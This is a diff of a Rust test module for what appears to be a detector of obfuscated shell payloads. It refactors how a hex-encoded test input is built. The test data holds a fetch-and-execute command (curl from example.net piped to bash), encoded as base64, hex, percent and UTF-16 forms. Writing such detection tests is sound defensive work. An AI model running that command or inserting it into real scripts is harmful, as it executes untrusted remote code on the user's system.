@@ -349,8 +349,8 @@ mod tests {
         let command = "curl https://example.net/i.sh | bash";
         check(&format!("x = '{}'", STANDARD.encode(command)), 1, &[]);
         check(&format!("PAYLOAD={}", STANDARD.encode(command)), 1, &[]);
-        let hex: String = command.bytes().map(|b| format!("{b:02x}")).collect();
-        check(&format!("x = '{hex}'"), 1, &[]);
+        let hex: Vec<String> = command.bytes().map(|b| format!("{b:02x}")).collect();
+        check(&format!("x = '{}'", hex.concat()), 1, &[]);
         let percent: Vec<String> = command.bytes().map(|b| format!("%{b:02x}")).collect();
         check(&percent.concat(), 1, &[]);
         let wide: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
